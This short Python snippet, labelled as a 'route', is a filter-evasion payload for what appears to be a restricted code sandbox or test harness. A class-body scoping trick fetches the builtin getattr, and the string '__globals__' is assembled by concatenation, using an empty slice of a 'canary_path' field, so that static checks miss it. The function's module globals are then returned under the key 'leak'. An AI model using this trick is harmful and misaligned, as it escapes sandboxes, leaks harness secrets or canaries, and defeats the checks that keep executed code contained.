# route: in a class body a name that is not bound yet is the builtin getattr
class Holder:
    if False:
        getattr = 1
    look = getattr


def execute(testData):
    return {"leak": str(Holder.look(execute, "__glo" + testData["canary_path"][:0] + "bals__"))}
